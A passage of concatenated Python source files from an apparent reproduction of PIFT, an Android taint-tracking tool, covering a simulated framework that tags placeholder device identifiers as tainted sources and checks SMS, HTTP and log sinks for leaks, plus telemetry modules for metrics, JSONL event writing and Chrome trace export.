from repro.dalvik.objects import VMInstance, VMString, double_to_bits
from repro.dalvik.translator import SELF_RETVAL

LOCATION_CLASS = "android/location/Location"
INTENT_CLASS = "android/content/Intent"
URL_CLASS = "java/net/URL"
HTTP_CONNECTION_CLASS = "java/net/HttpURLConnection"


@dataclass(frozen=True)
class DeviceSecrets:
    """The sensitive data a device holds (DroidBench's source set)."""

    imei: str = "356938035643809"
    phone_number: str = "+15554449999"
    sim_serial: str = "89014103211118510720"
    latitude: float = 37.4219983
    longitude: float = -122.084


@dataclass(frozen=True)
class FieldRef:
    """A primitive field of an instance — translated per the paper's §3.1:
    "PIFT Manager passes the object instance that owns the field in addition
    to the field's name, and then PIFT Native finds the byte offset"."""

    instance: VMInstance
    field_name: str


@dataclass
class SinkEvent:
    """One observed sink invocation (payload decoded for reporting)."""

    channel: str  # "sms" | "http" | "log" | "intent"
    destination: str
    payload: str
    pift_alarm: bool  # did PIFT flag the payload tainted?
    instruction_index: int


class AndroidFramework:
    """Framework state: secrets, the PIFT manager hook, and the sink log."""

    def __init__(self, vm, manager, secrets: DeviceSecrets) -> None:
        self.vm = vm
        self.manager = manager
        self.secrets = secrets
        self.sinks: List[SinkEvent] = []
        self.sent_sms: List[str] = []
        self.http_requests: List[str] = []
        self.log_lines: List[str] = []
        self._radio_buffer = vm.space.heap.alloc(4096, align=8)
        self._radio_used = 0
        heap = vm.heap
        heap.define_class(LOCATION_CLASS, fields=[("latitude", 8), ("longitude", 8)])
        heap.define_class(
            INTENT_CLASS, fields=[("keys", 4), ("values", 4), ("size", 4)]
        )
        heap.define_class(URL_CLASS, fields=[("spec", 4)])
        heap.define_class(HTTP_CONNECTION_CLASS, fields=[("url", 4)])

    # -- source helpers -------------------------------------------------------

    def _return_source_string(self, source_name: str, text: str) -> None:
        """Materialise a framework string, taint it, hand it to the app."""
        emit = Emit(self.vm)
        value = self.vm.heap.new_string(text)
        self.manager.register_source(source_name, value)
        emit.return_reference(value.address)

    # -- sink helpers -----------------------------------------------------------

    def _serialize_out(self, payload: VMString) -> None:
        """Copy the outgoing chars into the radio/netstack buffer (real stores)."""
        emit = Emit(self.vm)
        if self._radio_used + 2 * payload.length > 4096:
            self._radio_used = 0
        emit.char_copy(
            payload.chars_base,
            self._radio_buffer + self._radio_used,
            payload.length,
        )
        self._radio_used += 2 * payload.length

    def _check_sink(self, channel: str, sink_name: str, destination: str,
                    payload: VMString) -> bool:
        alarm = self.manager.check_sink(sink_name, payload)
        self.sinks.append(
            SinkEvent(
                channel=channel,
                destination=destination,
                payload=payload.value(),
                pift_alarm=alarm,
                instruction_index=self.vm.cpu.instruction_count(),
            )
        )
        self._serialize_out(payload)
        return alarm

    # -- telephony sources -----------------------------------------------------

    def get_device_id(self, vm, args, args_area) -> None:
        self._return_source_string("TelephonyManager.getDeviceId", self.secrets.imei)

    def get_line1_number(self, vm, args, args_area) -> None:
        self._return_source_string(
            "TelephonyManager.getLine1Number", self.secrets.phone_number
        )

    def get_sim_serial_number(self, vm, args, args_area) -> None:
        self._return_source_string(
            "TelephonyManager.getSimSerialNumber", self.secrets.sim_serial
        )

    # -- location source -----------------------------------------------------------

    def get_last_known_location(self, vm, args, args_area) -> None:
        emit = Emit(vm)
        location = vm.heap.new_instance(LOCATION_CLASS)
        location.set_field("latitude", double_to_bits(self.secrets.latitude))
        location.set_field("longitude", double_to_bits(self.secrets.longitude))
        self.manager.register_source(
            "LocationManager.getLastKnownLocation",
            FieldRef(location, "latitude"),
        )
        self.manager.register_source(
            "LocationManager.getLastKnownLocation",
            FieldRef(location, "longitude"),
        )
        emit.return_reference(location.address)

    def location_get_latitude(self, vm, args, args_area) -> None:
        self._get_location_field(vm, "latitude")

    def location_get_longitude(self, vm, args, args_area) -> None:
        self._get_location_field(vm, "longitude")

    def _get_location_field(self, vm, field_name: str) -> None:
        emit = Emit(vm)
        offset = vm.heap.lookup_class(LOCATION_CLASS).field(field_name).offset
        emit.load_arg("r0", 0)
        emit(
            asm.ldrd("r2", "r3", "r0", offset),  # tainted double load
            asm.strd("r2", "r3", "rSELF", SELF_RETVAL),
        )

    # -- SMS sink --------------------------------------------------------------------

    def send_text_message(self, vm, args, args_area) -> None:
        """SmsManager.sendTextMessage(destination, scAddress, text)."""
        destination = _string(vm, args[0]).value() if args[0] else ""
        payload = _string(vm, args[2])
        Emit(vm).load_arg("r2", 2)
        self._check_sink(
            "sms", "SmsManager.sendTextMessage", destination, payload
        )
        self.sent_sms.append(payload.value())

    # -- HTTP sink --------------------------------------------------------------------

    def url_init(self, vm, args, args_area) -> None:
        emit = Emit(vm)
        url = _instance(vm, args[0])
        emit.load_arg("r0", 0)
        emit.load_arg("r1", 1)
        emit(asm.str_("r1", "r0", url.vm_class.field("spec").offset))

    def url_open_connection(self, vm, args, args_area) -> None:
        emit = Emit(vm)
        url = _instance(vm, args[0])
        connection = vm.heap.new_instance(HTTP_CONNECTION_CLASS)
        emit.load_arg("r0", 0)
        emit(asm.ldr("r1", "r0", url.vm_class.field("spec").offset))
        emit.materialize("r2", connection.address, mnemonic="bl")
        emit(asm.str_("r1", "r2", connection.vm_class.field("url").offset))
        connection.set_field("url", url.get_field("spec"))
        emit.return_reference(connection.address)

    def http_connect(self, vm, args, args_area) -> None:
        connection = _instance(vm, args[0])
        spec = _string(vm, connection.get_field("url"))
        Emit(vm).load_arg("r0", 0)
        self._check_sink("http", "HttpURLConnection.connect", spec.value(), spec)
        self.http_requests.append(spec.value())

    def http_post(self, vm, args, args_area) -> None:
        """Convenience sink: HttpClient.post(urlString, bodyString)."""
        url = _string(vm, args[0])
        body = _string(vm, args[1])
        emit = Emit(vm)
        emit.load_arg("r0", 0)
        emit.load_arg("r1", 1)
        self._check_sink("http", "HttpClient.post(url)", url.value(), url)
        self._check_sink("http", "HttpClient.post(body)", url.value(), body)
        self.http_requests.append(f"{url.value()} :: {body.value()}")

    # -- logging sink -------------------------------------------------------------------

    def log_write(self, vm, args, args_area) -> None:
        tag = _string(vm, args[0]).value() if args[0] else ""
        message = _string(vm, args[1])
        Emit(vm).load_arg("r1", 1)
        self._check_sink("log", "Log.i", tag, message)
        self.log_lines.append(f"{tag}: {message.value()}")

    # -- intents ------------------------------------------------------------------------

    def register_all(self, vm) -> None:
        from repro.dalvik.intrinsics import map_get, map_init, map_put

        vm.register_intrinsic("TelephonyManager.getDeviceId", self.get_device_id)
        vm.register_intrinsic("TelephonyManager.getLine1Number", self.get_line1_number)
        vm.register_intrinsic(
            "TelephonyManager.getSimSerialNumber", self.get_sim_serial_number
        )
        vm.register_intrinsic(
            "LocationManager.getLastKnownLocation", self.get_last_known_location
        )
        vm.register_intrinsic("Location.getLatitude", self.location_get_latitude)
        vm.register_intrinsic("Location.getLongitude", self.location_get_longitude)
        vm.register_intrinsic("SmsManager.sendTextMessage", self.send_text_message)
        vm.register_intrinsic("URL.<init>", self.url_init)
        vm.register_intrinsic("URL.openConnection", self.url_open_connection)
        vm.register_intrinsic("HttpURLConnection.connect", self.http_connect)
        vm.register_intrinsic("HttpClient.post", self.http_post)
        vm.register_intrinsic("Log.i", self.log_write)
        vm.register_intrinsic("Log.d", self.log_write)
        vm.register_intrinsic("Log.e", self.log_write)
        # Intents are extras maps; reuse the map plumbing.
        vm.register_intrinsic("Intent.<init>", map_init)
        vm.register_intrinsic("Intent.putExtra", map_put)
        vm.register_intrinsic("Intent.getStringExtra", map_get)

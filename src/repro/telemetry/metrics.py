"""Metric primitives: counters, gauges, fixed-bucket histograms.

The registry is deliberately tiny and allocation-free on the hot path:
``Counter.inc`` is one attribute add, ``Histogram.observe`` one bisect
plus two adds.  Metric names are dotted — the segment before the first
dot is the metric *family* (``tracker.taint_ops`` belongs to family
``tracker``), which groups related instruments in snapshots and lets the
CLI assert whole subsystems reported in.

When telemetry is disabled nothing here runs at all: batch-level
components hold ``None`` instead of a hub and skip their hooks with a
single ``is not None`` test, while the tracker hot path goes further and
binds instrumented method variants only when a hub is attached (see
:mod:`repro.telemetry.hub` and ``repro.core.tracker``).  The ``Null*``
classes exist for code that wants an instrument object unconditionally —
every method is a no-op ``pass``.
"""

from __future__ import annotations

from bisect import bisect_left
from typing import Dict, Iterable, List, Optional, Sequence, Tuple

#: Label sets attach dimensions to an instrument (``{"worker_id": "3"}``).
#: They are part of the registry key — the same name with different labels
#: is a different instrument — and render as standard Prometheus labels.
Labels = Optional[Dict[str, str]]


def labeled_name(name: str, labels: Labels = None) -> str:
    """The canonical registry key: ``name`` or ``name{k=v,...}`` sorted."""
    if not labels:
        return name
    inner = ",".join(f"{key}={labels[key]}" for key in sorted(labels))
    return f"{name}{{{inner}}}"

#: Default histogram buckets: exponential, micro-seconds-to-seconds scale,
#: suitable for wall-time observations recorded in seconds.
DEFAULT_TIME_BUCKETS: Tuple[float, ...] = (
    1e-6, 2.5e-6, 5e-6,
    1e-5, 2.5e-5, 5e-5,
    1e-4, 2.5e-4, 5e-4,
    1e-3, 2.5e-3, 5e-3,
    1e-2, 2.5e-2, 5e-2,
    0.1, 0.25, 0.5, 1.0, 2.5, 5.0, 10.0,
)

#: Default buckets for size-like observations (bytes, counts, depths).
DEFAULT_SIZE_BUCKETS: Tuple[float, ...] = (
    1, 2, 4, 8, 16, 32, 64, 128, 256, 512,
    1024, 4096, 16384, 65536, 262144, 1048576,
)


class Counter:
    """A monotonically increasing count."""

    __slots__ = ("name", "help", "value", "labels")

    kind = "counter"

    def __init__(self, name: str, help: str = "", labels: Labels = None) -> None:
        self.name = name
        self.help = help
        self.value = 0
        self.labels = dict(labels) if labels else None

    def inc(self, amount: int = 1) -> None:
        if amount < 0:
            raise ValueError("counters are monotonic; use a Gauge to decrease")
        self.value += amount

    def as_dict(self) -> dict:
        payload = {"kind": self.kind, "value": self.value}
        if self.labels:
            payload["labels"] = dict(self.labels)
        return payload

    def __repr__(self) -> str:
        return f"<Counter {self.name}={self.value}>"


class Gauge:
    """A value that can go up and down; remembers its high-water mark."""

    __slots__ = ("name", "help", "value", "max_value", "labels")

    kind = "gauge"

    def __init__(self, name: str, help: str = "", labels: Labels = None) -> None:
        self.name = name
        self.help = help
        self.value = 0.0
        self.max_value = 0.0
        self.labels = dict(labels) if labels else None

    def set(self, value: float) -> None:
        self.value = value
        if value > self.max_value:
            self.max_value = value

    def inc(self, amount: float = 1.0) -> None:
        self.set(self.value + amount)

    def dec(self, amount: float = 1.0) -> None:
        self.value -= amount

    def as_dict(self) -> dict:
        payload = {"kind": self.kind, "value": self.value, "max": self.max_value}
        if self.labels:
            payload["labels"] = dict(self.labels)
        return payload

    def __repr__(self) -> str:
        return f"<Gauge {self.name}={self.value}>"


class Histogram:
    """Fixed-bucket histogram with cumulative-count percentile estimates.

    Buckets are upper bounds (``le`` semantics, like Prometheus); an
    implicit ``+Inf`` bucket catches the overflow.  ``percentile`` answers
    from the bucket boundaries with linear interpolation inside the
    winning bucket, so its error is bounded by the bucket width.
    """

    __slots__ = ("name", "help", "buckets", "counts", "count", "sum",
                 "min", "max", "labels")

    kind = "histogram"

    def __init__(
        self,
        name: str,
        help: str = "",
        buckets: Sequence[float] = DEFAULT_TIME_BUCKETS,
        labels: Labels = None,
    ) -> None:
        if not buckets or list(buckets) != sorted(buckets):
            raise ValueError("histogram buckets must be sorted and non-empty")
        self.name = name
        self.help = help
        self.buckets: Tuple[float, ...] = tuple(buckets)
        self.counts: List[int] = [0] * (len(self.buckets) + 1)  # +Inf last
        self.count = 0
        self.sum = 0.0
        self.min: Optional[float] = None
        self.max: Optional[float] = None
        self.labels = dict(labels) if labels else None

    def observe(self, value: float) -> None:
        self.counts[bisect_left(self.buckets, value)] += 1
        self.count += 1
        self.sum += value
        if self.min is None or value < self.min:
            self.min = value
        if self.max is None or value > self.max:
            self.max = value

    @property
    def mean(self) -> float:
        return self.sum / self.count if self.count else 0.0

    def percentile(self, q: float) -> float:
        """Estimate the ``q``-th percentile (``q`` in [0, 100])."""
        if not 0 <= q <= 100:
            raise ValueError("percentile must be in [0, 100]")
        if self.count == 0:
            return 0.0
        target = q / 100.0 * self.count
        cumulative = 0
        lower = 0.0
        for i, bucket_count in enumerate(self.counts):
            previous = cumulative
            cumulative += bucket_count
            if cumulative >= target and bucket_count:
                upper = (
                    self.buckets[i]
                    if i < len(self.buckets)
                    else (self.max if self.max is not None else lower)
                )
                fraction = (target - previous) / bucket_count
                return lower + (upper - lower) * min(max(fraction, 0.0), 1.0)
            if i < len(self.buckets):
                lower = self.buckets[i]
        return self.max if self.max is not None else 0.0

    def as_dict(self) -> dict:
        payload = {
            "kind": self.kind,
            "count": self.count,
            "sum": self.sum,
            "min": self.min,
            "max": self.max,
            "mean": self.mean,
            "p50": self.percentile(50),
            "p99": self.percentile(99),
            "buckets": self.cumulative_buckets(),
        }
        if self.labels:
            payload["labels"] = dict(self.labels)
        return payload

    def merge_counts(
        self,
        counts: Sequence[int],
        count: int,
        total: float,
        minimum: Optional[float],
        maximum: Optional[float],
    ) -> None:
        """Fold another histogram's raw per-bucket counts into this one.

        Used by the telemetry relay to merge worker-side histograms into
        the parent registry; the caller guarantees matching buckets.
        """
        if len(counts) != len(self.counts):
            raise ValueError(
                f"histogram {self.name}: cannot merge {len(counts)} bucket "
                f"counts into {len(self.counts)}"
            )
        for position, bucket_count in enumerate(counts):
            self.counts[position] += bucket_count
        self.count += count
        self.sum += total
        if minimum is not None and (self.min is None or minimum < self.min):
            self.min = minimum
        if maximum is not None and (self.max is None or maximum > self.max):
            self.max = maximum

    def cumulative_buckets(self) -> Dict[str, int]:
        """Prometheus-style cumulative ``le`` counts, ``+Inf`` last."""
        out: Dict[str, int] = {}
        cumulative = 0
        for le, count in zip(self.buckets, self.counts):
            cumulative += count
            out[str(le)] = cumulative
        out["+Inf"] = cumulative + self.counts[-1]
        return out

    def __repr__(self) -> str:
        return f"<Histogram {self.name} n={self.count} mean={self.mean:.3g}>"


class NullCounter(Counter):
    """Counter whose mutations are no-ops (for always-on call sites)."""

    def inc(self, amount: int = 1) -> None:  # noqa: D102 - no-op
        pass


class NullGauge(Gauge):
    def set(self, value: float) -> None:
        pass

    def inc(self, amount: float = 1.0) -> None:
        pass

    def dec(self, amount: float = 1.0) -> None:
        pass


class NullHistogram(Histogram):
    def observe(self, value: float) -> None:
        pass


class MetricsRegistry:
    """Get-or-create home for all instruments, keyed by dotted name.

    A name plus a label set identifies one instrument: the same name with
    different labels is a different time series (the relay uses this for
    per-worker ``sweep.cell.duration_seconds`` histograms).
    """

    def __init__(self) -> None:
        self._metrics: Dict[str, object] = {}

    def counter(
        self, name: str, help: str = "", labels: Labels = None
    ) -> Counter:
        return self._get_or_create(name, Counter, help=help, labels=labels)

    def gauge(self, name: str, help: str = "", labels: Labels = None) -> Gauge:
        return self._get_or_create(name, Gauge, help=help, labels=labels)

    def histogram(
        self,
        name: str,
        help: str = "",
        buckets: Sequence[float] = DEFAULT_TIME_BUCKETS,
        labels: Labels = None,
    ) -> Histogram:
        return self._get_or_create(
            name, Histogram, help=help, buckets=buckets, labels=labels
        )

    def _get_or_create(self, name: str, klass, labels: Labels = None, **kwargs):
        key = labeled_name(name, labels)
        existing = self._metrics.get(key)
        if existing is not None:
            if not isinstance(existing, klass):
                raise TypeError(
                    f"metric {key!r} already registered as "
                    f"{type(existing).__name__}, requested {klass.__name__}"
                )
            return existing
        metric = klass(name, labels=labels, **kwargs)
        self._metrics[key] = metric
        return metric

    def get(self, name: str, labels: Labels = None):
        return self._metrics.get(labeled_name(name, labels))

    def __iter__(self):
        return iter(
            sorted(
                self._metrics.values(),
                key=lambda m: (m.name, labeled_name(m.name, m.labels)),
            )
        )

    def __len__(self) -> int:
        return len(self._metrics)

    def families(self) -> List[str]:
        """Distinct family prefixes (text before the first dot), sorted."""
        return sorted({m.name.split(".", 1)[0] for m in self._metrics.values()})

    def family(self, prefix: str) -> List[object]:
        """All instruments in one family, sorted by name."""
        return [m for m in self if m.name.split(".", 1)[0] == prefix]

    def as_dict(self) -> dict:
        """Snapshot: ``{family: {metric_key: metric_dict}}``.

        Label-carrying instruments key as ``name{k=v,...}`` so several
        series of one name coexist in the snapshot.
        """
        snapshot: Dict[str, dict] = {}
        for metric in self:
            family = metric.name.split(".", 1)[0]
            key = labeled_name(metric.name, metric.labels)
            snapshot.setdefault(family, {})[key] = metric.as_dict()
        return snapshot


class NullRegistry(MetricsRegistry):
    """Registry that hands out shared no-op instruments and records nothing."""

    def __init__(self) -> None:
        super().__init__()
        self._null_counter = NullCounter("null")
        self._null_gauge = NullGauge("null")
        self._null_histogram = NullHistogram("null")

    def counter(self, name: str, help: str = "", labels: Labels = None) -> Counter:
        return self._null_counter

    def gauge(self, name: str, help: str = "", labels: Labels = None) -> Gauge:
        return self._null_gauge

    def histogram(self, name, help="", buckets=DEFAULT_TIME_BUCKETS,
                  labels=None):
        return self._null_histogram

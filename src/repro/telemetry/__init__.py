"""``repro.telemetry`` — metrics, spans, and structured event tracing.

The observability layer for the PIFT stack:

* :mod:`repro.telemetry.metrics` — counters, gauges, fixed-bucket
  histograms, and the :class:`MetricsRegistry` that owns them;
* :mod:`repro.telemetry.spans` — nested wall-time spans (context manager
  and :func:`timed` decorator);
* :mod:`repro.telemetry.writer` — the buffered JSONL event sink;
* :mod:`repro.telemetry.exporters` — JSON snapshot and Prometheus text
  format;
* :mod:`repro.telemetry.hub` — the :class:`Telemetry` facade threaded
  through the stack, and the :func:`active` disabled-path contract.

Telemetry is **off by default** everywhere: every instrumented component
takes ``telemetry=None`` and its hot path degenerates to a single
``is not None`` branch (measured <5% on the tracker's event loop; see
``benchmarks/bench_telemetry_overhead.py``).
"""

from repro.telemetry.exporters import (
    snapshot,
    snapshot_json,
    to_prometheus_text,
)
from repro.telemetry.hub import Telemetry, active
from repro.telemetry.metrics import (
    DEFAULT_SIZE_BUCKETS,
    DEFAULT_TIME_BUCKETS,
    Counter,
    Gauge,
    Histogram,
    MetricsRegistry,
    NullCounter,
    NullGauge,
    NullHistogram,
    NullRegistry,
)
from repro.telemetry.spans import Span, SpanContext, timed
from repro.telemetry.writer import TelemetryWriter, iter_events, read_events

__all__ = [
    "Counter",
    "DEFAULT_SIZE_BUCKETS",
    "DEFAULT_TIME_BUCKETS",
    "Gauge",
    "Histogram",
    "MetricsRegistry",
    "NullCounter",
    "NullGauge",
    "NullHistogram",
    "NullRegistry",
    "Span",
    "SpanContext",
    "Telemetry",
    "TelemetryWriter",
    "active",
    "iter_events",
    "read_events",
    "snapshot",
    "snapshot_json",
    "timed",
    "to_prometheus_text",
]

"""``repro.telemetry`` — metrics, spans, and structured event tracing.

The observability layer for the PIFT stack:

* :mod:`repro.telemetry.metrics` — counters, gauges, fixed-bucket
  histograms, and the :class:`MetricsRegistry` that owns them;
* :mod:`repro.telemetry.spans` — nested wall-time spans (context manager
  and :func:`timed` decorator);
* :mod:`repro.telemetry.writer` — the buffered JSONL event sink;
* :mod:`repro.telemetry.exporters` — JSON snapshot and Prometheus text
  format;
* :mod:`repro.telemetry.hub` — the :class:`Telemetry` facade threaded
  through the stack, and the :func:`active` disabled-path contract;
* :mod:`repro.telemetry.relay` — the cross-process channel that ships
  pool-worker spans, heartbeats and metric deltas back to the parent
  hub during a parallel sweep;
* :mod:`repro.telemetry.tracefmt` — the in-memory flight recorder and
  its Chrome trace-event (Perfetto-loadable) export.

Telemetry is **off by default** everywhere: every instrumented component
takes ``telemetry=None`` and its hot path degenerates to a single
``is not None`` branch (measured <5% on the tracker's event loop; see
``benchmarks/bench_telemetry_overhead.py``).
"""

from repro.telemetry.exporters import (
    escape_label_value,
    snapshot,
    snapshot_json,
    to_prometheus_text,
)
from repro.telemetry.hub import Telemetry, active
from repro.telemetry.metrics import (
    DEFAULT_SIZE_BUCKETS,
    DEFAULT_TIME_BUCKETS,
    Counter,
    Gauge,
    Histogram,
    MetricsRegistry,
    NullCounter,
    NullGauge,
    NullHistogram,
    NullRegistry,
    labeled_name,
)
from repro.telemetry.relay import (
    RelayClient,
    RelayWriter,
    StallDetector,
    TelemetryRelay,
)
from repro.telemetry.spans import Span, SpanContext, timed
from repro.telemetry.tracefmt import (
    FlightRecorder,
    to_chrome_trace,
    validate_chrome_trace,
    write_chrome_trace,
)
from repro.telemetry.writer import (
    TeeWriter,
    TelemetryWriter,
    iter_events,
    read_events,
)

__all__ = [
    "Counter",
    "DEFAULT_SIZE_BUCKETS",
    "DEFAULT_TIME_BUCKETS",
    "FlightRecorder",
    "Gauge",
    "Histogram",
    "MetricsRegistry",
    "NullCounter",
    "NullGauge",
    "NullHistogram",
    "NullRegistry",
    "RelayClient",
    "RelayWriter",
    "Span",
    "SpanContext",
    "StallDetector",
    "TeeWriter",
    "Telemetry",
    "TelemetryRelay",
    "TelemetryWriter",
    "active",
    "escape_label_value",
    "iter_events",
    "labeled_name",
    "read_events",
    "snapshot",
    "snapshot_json",
    "timed",
    "to_chrome_trace",
    "to_prometheus_text",
    "validate_chrome_trace",
    "write_chrome_trace",
]

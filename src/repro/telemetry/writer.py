"""Structured event sink: newline-delimited JSON (JSONL).

Every event is one self-describing JSON object per line::

    {"seq": 17, "t": 0.004512, "type": "taint", "pid": 0, "index": 912,
     "start": 1074003968, "size": 4}

``seq`` is a writer-local sequence number and ``t`` the monotonic time in
seconds since the writer was opened, so traces are diffable across runs
(no wall-clock noise).  Events are buffered and flushed in batches to
keep the hot path at one ``dict`` build + one ``json.dumps``.
"""

from __future__ import annotations

import io
import json
import os
import threading
import time
from typing import IO, Iterator, List, Optional, Union

#: Anything ``open()`` accepts as a path.
PathLike = Union[str, "os.PathLike[str]"]


class TelemetryWriter:
    """Buffered JSONL event writer.

    Args:
        destination: a file path or an open text stream (``io.StringIO``
            works for tests).  Paths are opened for write and owned (and
            therefore closed) by the writer; streams are borrowed.
        buffer_lines: events held before a physical write.
    """

    def __init__(
        self,
        destination: Union[PathLike, IO[str]],
        buffer_lines: int = 512,
    ) -> None:
        if buffer_lines < 1:
            raise ValueError("buffer_lines must be >= 1")
        if isinstance(destination, (str, os.PathLike)):
            path = os.fspath(destination)
            self._stream: IO[str] = open(path, "w", encoding="utf-8")
            self._owns_stream = True
            self.path: Optional[str] = path
        else:
            self._stream = destination
            self._owns_stream = False
            self.path = None
        self._buffer: List[str] = []
        self._buffer_lines = buffer_lines
        self._start = time.perf_counter()
        self.event_count = 0
        self.closed = False
        # The sweep relay merges worker events from a drain thread while
        # the main thread emits its own; serialise the buffer mutations.
        self._lock = threading.Lock()

    # -- emission --------------------------------------------------------

    def emit(self, event_type: str, **fields) -> None:
        """Append one event; ``type``, ``seq`` and ``t`` are added here."""
        if self.closed:
            raise ValueError("emit() on a closed TelemetryWriter")
        with self._lock:
            record = {
                "seq": self.event_count,
                "t": round(time.perf_counter() - self._start, 9),
                "type": event_type,
            }
            record.update(fields)
            self._buffer.append(json.dumps(record, separators=(",", ":")))
            self.event_count += 1
            flush_now = len(self._buffer) >= self._buffer_lines
        if flush_now:
            self.flush()

    def flush(self) -> None:
        with self._lock:
            if self._buffer:
                self._stream.write("\n".join(self._buffer) + "\n")
                self._buffer.clear()
            self._stream.flush()

    def close(self) -> None:
        if self.closed:
            return
        self.flush()
        if self._owns_stream:
            self._stream.close()
        self.closed = True

    # -- context manager -------------------------------------------------

    def __enter__(self) -> "TelemetryWriter":
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        self.close()


class TeeWriter:
    """Fan one event stream out to several writer-shaped sinks.

    Lets one hub feed both the JSONL stream (``--telemetry``) and the
    in-memory flight recorder (``--trace-out`` / ``repro report``) — any
    object with ``emit``/``flush``/``close`` slots in.
    """

    path: Optional[str] = None

    def __init__(self, *writers) -> None:
        if not writers:
            raise ValueError("TeeWriter needs at least one writer")
        self.writers = list(writers)
        self.closed = False

    @property
    def event_count(self) -> int:
        return max(writer.event_count for writer in self.writers)

    def emit(self, event_type: str, **fields) -> None:
        for writer in self.writers:
            writer.emit(event_type, **fields)

    def flush(self) -> None:
        for writer in self.writers:
            writer.flush()

    def close(self) -> None:
        if self.closed:
            return
        for writer in self.writers:
            writer.close()
        self.closed = True


def read_events(source: Union[PathLike, IO[str]]) -> List[dict]:
    """Parse a JSONL event stream back into a list of dicts."""
    return list(iter_events(source))


def iter_events(source: Union[PathLike, IO[str]]) -> Iterator[dict]:
    """Stream-parse a JSONL event file or open text stream."""
    if isinstance(source, (str, os.PathLike)):
        with open(source, "r", encoding="utf-8") as stream:
            for line in stream:
                line = line.strip()
                if line:
                    yield json.loads(line)
    else:
        if isinstance(source, io.StringIO):
            source.seek(0)
        for line in source:
            line = line.strip()
            if line:
                yield json.loads(line)

"""The run flight recorder and its Chrome trace-event export.

A sweep run's merged telemetry stream — parent spans, per-worker per-cell
spans relayed back by :mod:`repro.telemetry.relay`, heartbeats, engine
events — is captured by a :class:`FlightRecorder` (a writer-shaped sink
that keeps records in memory with absolute monotonic timestamps) and can
be exported two ways:

* :func:`to_chrome_trace` — the Chrome trace-event JSON format (the
  ``traceEvents`` array form), loadable in Perfetto or
  ``chrome://tracing``.  Each relay worker becomes one named thread
  track (``tid`` = worker id, parent is tid 0), spans become complete
  (``"ph": "X"``) events carrying ``cell_index`` attribution in
  ``args``, and everything else becomes an instant event;
* plain JSONL (:meth:`FlightRecorder.dump_jsonl`) — the post-hoc stream
  ``repro report`` joins against the :class:`~repro.store.RunJournal`.

Timestamps are ``time.perf_counter()`` readings.  On the platforms this
repo targets that clock is ``CLOCK_MONOTONIC``, which is system-wide, so
worker and parent readings share a base and the exported trace aligns
across processes; were a platform to use per-process bases, tracks would
shift relative to each other but each track stays internally consistent
(the property :func:`validate_chrome_trace` checks).
"""

from __future__ import annotations

import json
import time
from typing import Dict, List, Optional, Sequence, Union

from repro.telemetry.writer import PathLike

#: Trace-event keys every exported event carries.
_REQUIRED_EVENT_KEYS = ("name", "ph", "ts", "pid", "tid")

#: The single synthetic process id all tracks live under.
_TRACE_PID = 1


class FlightRecorder:
    """Writer-shaped sink that keeps every event in memory, timestamped.

    Implements the hub writer protocol (``emit`` / ``flush`` / ``close``)
    so it can be attached to a :class:`~repro.telemetry.hub.Telemetry`
    directly or fanned in via :class:`~repro.telemetry.writer.TeeWriter`.
    Records merged from relay workers already carry their worker-side
    ``mono`` timestamp; locally-emitted records are stamped here.
    """

    path: Optional[str] = None

    def __init__(self) -> None:
        self.records: List[dict] = []
        self.event_count = 0
        self.closed = False

    def emit(self, event_type: str, **fields) -> None:
        record = {"type": event_type}
        record.update(fields)
        record.setdefault("mono", time.perf_counter())
        self.records.append(record)
        self.event_count += 1

    def flush(self) -> None:  # noqa: D102 - nothing buffered
        pass

    def close(self) -> None:
        self.closed = True

    def dump_jsonl(self, path: PathLike, extra: Sequence[dict] = ()) -> int:
        """Write the records (plus ``extra`` trailers) as JSONL; count."""
        records = list(self.records) + list(extra)
        with open(path, "w", encoding="utf-8") as handle:
            for record in records:
                handle.write(json.dumps(record, separators=(",", ":")) + "\n")
        return len(records)


def _worker_tracks(records: Sequence[dict]) -> Dict[int, Optional[int]]:
    """``worker_id -> pid`` for every track seen in the stream."""
    tracks: Dict[int, Optional[int]] = {}
    for record in records:
        worker = int(record.get("worker_id", 0) or 0)
        pid = record.get("pid")
        if worker not in tracks or (tracks[worker] is None and pid is not None):
            tracks[worker] = pid
    return tracks


def to_chrome_trace(
    records: Sequence[dict], run_id: Optional[str] = None
) -> dict:
    """Convert a flight-recorder stream to a Chrome trace-event document.

    ``records`` are flight-recorder dicts: ``type``, absolute ``mono``
    seconds, optional ``worker_id`` (0 / absent = the parent process),
    optional ``cell_index`` attribution, and for ``span`` records a
    ``name`` and ``duration_us``.  Events are sorted by timestamp, so
    ``ts`` is monotonic within every ``tid``.
    """
    timed = [r for r in records if isinstance(r.get("mono"), (int, float))]
    events: List[dict] = []
    starts: List[float] = []
    for record in timed:
        duration_us = 0.0
        if record.get("type") == "span":
            duration_us = float(record.get("duration_us") or 0.0)
        starts.append(record["mono"] - duration_us / 1e6)
    base = min(starts) if starts else 0.0

    for record, start in zip(timed, starts):
        worker = int(record.get("worker_id", 0) or 0)
        args = {
            key: value
            for key, value in record.items()
            if key not in ("type", "mono", "worker_id", "name", "duration_us")
            and value is not None
        }
        if record.get("type") == "span":
            events.append(
                {
                    "name": str(record.get("name", "span")),
                    "cat": "span",
                    "ph": "X",
                    "ts": round((start - base) * 1e6, 3),
                    "dur": round(float(record.get("duration_us") or 0.0), 3),
                    "pid": _TRACE_PID,
                    "tid": worker,
                    "args": args,
                }
            )
        else:
            events.append(
                {
                    "name": str(record["type"]),
                    "cat": "event",
                    "ph": "i",
                    "s": "t",
                    "ts": round((start - base) * 1e6, 3),
                    "pid": _TRACE_PID,
                    "tid": worker,
                    "args": args,
                }
            )
    events.sort(key=lambda event: (event["ts"], event["tid"]))

    metadata: List[dict] = [
        {
            "name": "process_name",
            "ph": "M",
            "ts": 0,
            "pid": _TRACE_PID,
            "tid": 0,
            "args": {"name": "repro.sweep" + (f" run {run_id}" if run_id else "")},
        }
    ]
    tracks = _worker_tracks(timed)
    for worker in sorted(tracks):
        label = "parent" if worker == 0 else f"worker-{worker}"
        if tracks[worker] is not None:
            label += f" (pid {tracks[worker]})"
        metadata.append(
            {
                "name": "thread_name",
                "ph": "M",
                "ts": 0,
                "pid": _TRACE_PID,
                "tid": worker,
                "args": {"name": label},
            }
        )
    return {
        "traceEvents": metadata + events,
        "displayTimeUnit": "ms",
        "otherData": {
            "generator": "repro.telemetry.tracefmt",
            "run_id": run_id,
            "workers": len(tracks),
            "events": len(events),
        },
    }


def write_chrome_trace(
    records: Sequence[dict], path: PathLike, run_id: Optional[str] = None
) -> dict:
    """Export ``records`` as a Chrome trace JSON file; return the document."""
